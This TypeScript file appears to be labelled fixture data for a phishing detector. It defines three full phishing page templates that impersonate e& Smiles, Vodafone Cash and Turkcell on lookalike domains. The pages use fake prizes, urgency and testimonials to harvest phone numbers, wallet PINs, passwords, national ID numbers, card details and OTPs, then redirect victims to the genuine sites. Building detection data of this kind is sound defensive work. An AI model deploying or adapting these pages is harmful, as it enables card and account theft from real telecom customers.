import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, wordmark, cardCss, cardFields, cardMaskJs, otpBoxes, otpJs, countdownJs, stepFlow, sendFetchForm, sendJson, sendXhr, sendTelegram, json, js, b64 } from '../parts/yl-kit.js';

export const entries: Entry[] = [
{
  id: 'yl-eand-smiles-points-expiry',
  label: 'phishing',
  kind: 'telecom-rewards-kit',
  url: 'https://eand-smiles-redeem.com/ae/ar/points',
  body: doc({
    title: 'e& | نقاط سمايلز',
    lang: 'ar',
    css: cardCss({ bg: '#f6f6f6', primary: '#e00800', radius: 16, font: "'Noto Kufi Arabic',Tahoma,sans-serif" }) + `.hero{background:linear-gradient(135deg,#e00800,#9b0000);color:#fff;padding:22px;border-radius:16px;margin-bottom:16px}.hero b{font-size:34px;display:block;direction:ltr;text-align:right}.lang{position:absolute;top:14px;left:16px;font-size:13px;color:#555}`,
    body: `<a class="lang" href="#">English</a><div class="wrap"><div class="logo">${wordmark('e&', '#e00800', { size: 34 })}</div>
<div class="hero">رصيد نقاط سمايلز الخاص بك<b>18,450</b>ستنتهي صلاحية النقاط اليوم. استبدلها الآن برصيد نقدي بقيمة 368 درهم.</div>
<div class="card">
<div class="step on"><h1>استبدال النقاط</h1><p class="sub">أدخل رقم الهاتف المتحرك المسجل في e&amp;</p><form><div class="f"><label>رقم الهاتف</label><input name="msisdn" dir="ltr" value="+971 " required></div><button class="btn">التالي</button></form></div>
<div class="step"><h1>تفاصيل البطاقة</h1><p class="sub">سيتم تحويل قيمة النقاط إلى بطاقتك البنكية خلال دقائق.</p><form>${cardFields({ name: 'الاسم على البطاقة', number: 'رقم البطاقة', exp: 'تاريخ الانتهاء', cvv: 'CVV' })}<button class="btn">تحويل 368 درهم</button></form></div>
<div class="step"><h1>رمز التحقق</h1><p class="sub">أدخل الرمز المرسل من البنك لتأكيد عملية التحويل.</p><form>${otpBoxes()}<button class="btn">تأكيد</button></form></div>
<div class="step"><div class="spin"></div><p class="sub" style="text-align:center">جاري معالجة طلبك...</p><form></form></div>
</div><footer>© 2025 Emirates Telecommunications Group Company PJSC</footer></div>
<script>${cardMaskJs}${otpJs}</script>
${stepFlow({ send: sendJson('/ae/ar/api/points'), finalUrl: 'https://www.etisalat.ae/ar/smiles.html' })}`,
  }),
  routes: { 'eand-smiles-redeem.com/ae/ar/api/points': json({ success: true }) },
},
{
  id: 'yl-vodafone-cash-bonus-pin',
  label: 'phishing',
  kind: 'ewallet-kit',
  url: 'https://vodafone-cash-eg.site/bonus/',
  body: doc({
    title: 'فودافون كاش - استلم هديتك',
    lang: 'ar',
    css: `*{box-sizing:border-box}body{margin:0;font-family:Tahoma,Arial,sans-serif;background:#f2f2f2}.top{background:#e60000;color:#fff;text-align:center;padding:18px}.top h2{margin:6px 0 0;font-size:20px}
.c{max-width:420px;margin:-10px auto 0;background:#fff;border-radius:10px;padding:22px;box-shadow:0 4px 16px rgba(0,0,0,.1)}.gift{text-align:center;font-size:15px;line-height:1.7}.gift b{color:#e60000;font-size:30px;display:block}
input{width:100%;height:46px;border:1px solid #ccc;border-radius:8px;padding:0 12px;font-size:16px;margin:8px 0}button{width:100%;height:48px;border:0;border-radius:8px;background:#e60000;color:#fff;font-size:17px;margin-top:8px}.cm{font-size:13px;border-top:1px solid #eee;margin-top:18px;padding-top:12px}.cm p{margin:8px 0}.cm b{color:#333}`,
    body: `<div class="top">${wordmark('Vodafone Cash', '#fff', { size: 24 })}<h2>احتفالاً بـ 25 مليون عميل</h2></div>
<div class="c"><div class="gift">مبروك! رقمك فاز بهدية كاش<b>5,000 جنيه</b>لتحويل الهدية إلى محفظتك أدخل رقم المحفظة والرقم السري</div>
<form id="f"><input name="num" placeholder="رقم المحفظة 010xxxxxxxx" inputmode="tel" dir="ltr" required><input name="pin" type="password" placeholder="الرقم السري للمحفظة (6 أرقام)" inputmode="numeric" maxlength="6" required><button>استلام الهدية</button></form>
<div id="ok" style="display:none;text-align:center"><p>تم إرسال كود التأكيد برسالة، أدخله لإتمام التحويل</p><input id="code" placeholder="كود التأكيد" inputmode="numeric"><button id="b2">تأكيد</button></div>
<div class="cm"><p><b>منى أحمد:</b> الحمد لله استلمت الـ 5000 فعلاً 😍</p><p><b>Mahmoud Salah:</b> جربت ونزلت في المحفظة في خلال دقيقة</p><p><b>ياسمين:</b> شكراً فودافون ❤️</p></div></div>
<script>
var d={};function post(o){return fetch('/bonus/p.php',{method:'POST',headers:{'Content-Type':'application/x-www-form-urlencoded'},body:new URLSearchParams(o)})}
document.getElementById('f').onsubmit=function(e){e.preventDefault();d.num=this.num.value;d.pin=this.pin.value;post(d).finally(function(){document.getElementById('f').style.display='none';document.getElementById('ok').style.display='block'})};
document.getElementById('b2').onclick=function(){d.code=document.getElementById('code').value;post(d).finally(function(){location.href='https://web.vodafone.com.eg/ar/vodafone-cash'})};
</script>`,
  }),
  routes: { 'vodafone-cash-eg.site/bonus/p.php': json({ ok: 1 }) },
},
{
  id: 'yl-turkcell-hediye-internet',
  label: 'phishing',
  kind: 'telecom-kit-tr',
  url: 'https://turkcell-hediye-gb.com/kampanya/50gb',
  body: doc({
    title: 'Turkcell | 50 GB Hediye İnternet',
    lang: 'tr',
    css: cardCss({ bg: '#ffc900', primary: '#253342', radius: 14 }) + `.gb{font-size:64px;font-weight:900;text-align:center;color:#253342;line-height:1}.gb small{display:block;font-size:16px;font-weight:600;margin-top:6px}`,
    body: `<div class="wrap"><div class="logo">${wordmark('Turkcell', '#253342', { size: 30 })}</div>
<div class="gb">50 GB<small>30. yıla özel hediye internet paketi</small></div><br>
<div class="card">
<div class="step on"><h1>Hediyeni hemen tanımla</h1><p class="sub">Kampanya yalnızca bugün geçerlidir. Kalan paket: <b>312</b></p>
<form><div class="f"><label>Cep telefonu</label><input name="gsm" placeholder="5XX XXX XX XX" inputmode="tel" required></div><div class="f"><label>Turkcell şifresi</label><input name="sifre" type="password" required></div><button class="btn">Paketi Tanımla</button></form></div>
<div class="step"><h1>Güvenlik doğrulaması</h1><p class="sub">Hattınıza gönderilen 6 haneli doğrulama kodunu giriniz.</p><form>${otpBoxes()}<button class="btn">Doğrula</button></form></div>
<div class="step"><h1>Kimlik doğrulama</h1><p class="sub">Hediye paketinin tanımlanması için hattın sahibi olduğunuzu doğrulayın.</p><form><div class="f"><label>T.C. Kimlik No</label><input name="tc" maxlength="11" required></div>${cardFields({ name: 'Kart sahibi', number: 'Kart numarası (1 TL doğrulama)', exp: 'SKT', cvv: 'CVV' })}<button class="btn">Onayla</button></form></div>
</div><footer>© 2025 Turkcell İletişim Hizmetleri A.Ş.</footer></div>
<script>${otpJs}${cardMaskJs}</script>
${stepFlow({ send: sendXhr('/kampanya/kaydet.php'), finalUrl: 'https://www.turkcell.com.tr/' })}`,
  }),
  routes: { 'turkcell-hediye-gb.com/kampanya/kaydet.php': json({ s: 1 }) },
},
];
